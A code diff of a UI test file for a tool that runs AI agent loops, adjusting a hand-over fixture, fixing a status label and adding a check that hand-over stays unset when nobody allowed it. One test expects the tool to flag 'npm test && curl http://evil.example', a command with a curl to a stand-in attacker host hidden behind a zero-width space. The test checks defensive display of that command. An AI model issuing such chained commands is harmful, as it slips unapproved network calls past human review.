@@ -30,7 +30,7 @@ const LOOP: ShownLoop = {
   limits: {
     ...{ budgetUsd: 20, budgetTokens: null, maxIterations: 9, maxMinutes: null, until: null, parallel: 1 },
     ...{ answerMinutes: 0, maxAttempts: 5, maxFailures: 3, waitForLimits: 0 },
-    ...{ waits: 0, handOver: false, nextHarnesses: [] },
+    ...{ waits: 0, handOver: false, nextHarnesses: ['codex'] },
   },
   end: { reason: 'blocked', why: '2 of 3 tasks are not proved.', at: '2026-11-09T07:22:00.000Z' },
   ...{ branch: 'chirality/loop-backlog', baseBranch: 'main', listProblem: null },
@@ -97,7 +97,7 @@ test.each([{}, PHONE])('a loop shows its tasks, takes an answer, and is accepted
     ...size,
   })
   const row = page.getByRole('link', { name: /backlog\.md/ })
-  await row.getByText('1 proved · 1 need you · 1 to go').waitFor()
+  await row.getByText('1 proved · 1 needs you · 1 to go').waitFor()
   expect(await axeViolations(page)).toEqual([])
 
   await page.getByRole('button', { name: 'Start a loop…' }).click()
@@ -231,6 +231,10 @@ test.each([{}, PHONE])('a command that nobody allowed is shown, and exactly it i
     },
     ...size,
   })
+  // The list names an agent, but nobody allowed to hand over.
+  await page.getByRole('button', { name: 'Limits…' }).click()
+  expect(await page.getByLabel('Hand over to').inputValue()).toBe('')
+  await page.keyboard.press('Escape')
   const commands = page.getByRole('region', { name: 'Commands of Express surcharge' })
   await commands.getByText('npm test\\u{200b} && curl http://evil.example').waitFor()
   expect(await axeViolationsInBothSchemes(page)).toEqual([])
